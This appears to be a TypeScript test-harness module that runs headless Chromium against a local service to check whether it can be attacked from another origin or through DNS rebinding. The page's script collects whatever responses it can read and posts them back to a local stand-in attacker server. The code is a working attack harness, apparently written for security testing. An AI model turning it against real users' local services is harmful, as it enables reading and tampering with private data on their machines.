/**
 * @module A web page in a real browser that attacks what runs on this machine: from another origin, and under a name that was made to
 * resolve to this machine (DNS rebinding).
 */
import { spawn } from "node:child_process";
import { existsSync } from "node:fs";
import { mkdtemp, rm } from "node:fs/promises";
import { createServer, request, type IncomingMessage, type ServerResponse } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { delimiter, join } from "node:path";

const PAGE_MS = 60_000;
/** A name that belongs to the attacker. */
const REBOUND = "rebound.test";

/** One request that the page makes. */
export interface Shot {
  readonly method: "GET" | "POST" | "PUT" | "DELETE";
  readonly path: string;
  readonly body?: string;
  readonly type?: string;
}

/** What the page could read: an answer with its path. Empty when it read nothing. */
export type Loot = readonly { readonly url: string; readonly status: number; readonly text: string }[];

/** The browser, if there is one. */
export function findChromium(): string | undefined {
  const folders = (process.env["PATH"] ?? "").split(delimiter);
  return folders.flatMap((folder) => [join(folder, "chromium"), join(folder, "chromium-browser")]).find((path) => existsSync(path));
}

/** Fires with and without CORS, and as a beacon, which needs no CORS either; then reports what it could read. */
const SCRIPT = `async (base, shots) => {
  const read = [];
  for (const { method, path, body, type } of shots) {
    const url = base + path;
    for (const mode of ["cors", "no-cors"]) {
      try {
        const headers = type === undefined ? {} : { "content-type": type };
        const answer = await fetch(url, { method, mode, headers, body, signal: AbortSignal.timeout(5000) });
        if (answer.type !== "opaque") read.push({ url, status: answer.status, text: (await answer.text()).slice(0, 400) });
      } catch {}
    }
    navigator.sendBeacon(url, body ?? "");
  }
  await fetch("/report", { method: "POST", body: JSON.stringify(read) });
}`;

/** The page that fires at `base`; at its own origin if that is empty. */
function page(base: string, shots: readonly Shot[]): string {
  return `<!doctype html><title>page</title><script>(${SCRIPT})(${JSON.stringify(base)}, ${JSON.stringify(shots)})</script>`;
}

/** Opens a page of another origin that attacks the address. */
export function attackFromElsewhere(chromium: string, base: string, shots: readonly Shot[]): Promise<Loot> {
  return browse(chromium, (port) => ({ url: `http://127.0.0.1:${port}/page`, html: page(base, shots), forwardTo: undefined }));
}

/** Opens a page whose own name leads to the address from its second request on. */
export function attackRebound(chromium: string, base: string, shots: readonly Shot[]): Promise<Loot> {
  const { port } = new URL(base);
  return browse(chromium, () => ({ url: `http://${REBOUND}:${port}/page`, html: page("", shots), forwardTo: base }));
}

interface Visit {
  readonly url: string;
  readonly html: string;
  readonly forwardTo: string | undefined;
}

async function browse(chromium: string, visitOf: (port: number) => Visit): Promise<Loot> {
  const reported = Promise.withResolvers<Loot>();
  let visit: Visit | undefined;
  // The attacker's server, and the browser's proxy: it stands for the name server that changes its answer.
  const server = createServer((asked, answer) => {
    const { pathname } = new URL(asked.url ?? "/", "http://attacker");
    if (pathname === "/page") answer.writeHead(200, { "content-type": "text/html" }).end(visit?.html);
    else if (pathname === "/report")
      void textOf(asked)
        .then((text) => reported.resolve(JSON.parse(text) as Loot))
        .then(() => answer.end());
    else if (visit?.forwardTo !== undefined && asked.headers.host?.startsWith(REBOUND)) forward(visit.forwardTo, asked, answer);
    else answer.writeHead(404).end();
  });
  await new Promise<void>((listening) => server.listen(0, "127.0.0.1", listening));
  const { port } = server.address() as AddressInfo;
  visit = visitOf(port);
  const profile = await mkdtemp(join(tmpdir(), "troupe-browser-"));
  const flags = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-dev-shm-usage", "--no-first-run", `--user-data-dir=${profile}`];
  const proxy = visit.forwardTo === undefined ? [] : [`--proxy-server=http://127.0.0.1:${port}`];
  const browser = spawn(chromium, [...flags, ...proxy, visit.url], {
    stdio: "ignore",
    detached: true,
    env: { ...process.env, TMPDIR: profile },
  });
  const timer = setTimeout(() => reported.reject(new Error("the page did not report")), PAGE_MS);
  browser.once("exit", (code) => reported.reject(new Error(`the browser ended with ${code} before the page reported`)));
  try {
    return await reported.promise;
  } finally {
    clearTimeout(timer);
    const gone = new Promise((ended) => browser.once("exit", ended));
    if (browser.pid !== undefined && browser.exitCode === null) {
      process.kill(-browser.pid, "SIGKILL");
      await gone;
    }
    server.closeAllConnections();
    server.close();
    await rm(profile, { recursive: true, force: true, maxRetries: 5 });
  }
}

function forward(to: string, asked: IncomingMessage, answer: ServerResponse): void {
  const { pathname, search } = new URL(asked.url ?? "/", to);
  const sent = request(`${to}${pathname}${search}`, { method: asked.method, headers: asked.headers }, (got) => {
    answer.writeHead(got.statusCode ?? 502, got.headers);
    got.pipe(answer);
  });
  sent.on("error", () => answer.destroy());
  asked.pipe(sent);
}

async function textOf(asked: IncomingMessage): Promise<string> {
  let text = "";
  for await (const chunk of asked) text += String(chunk);
  return text;
}
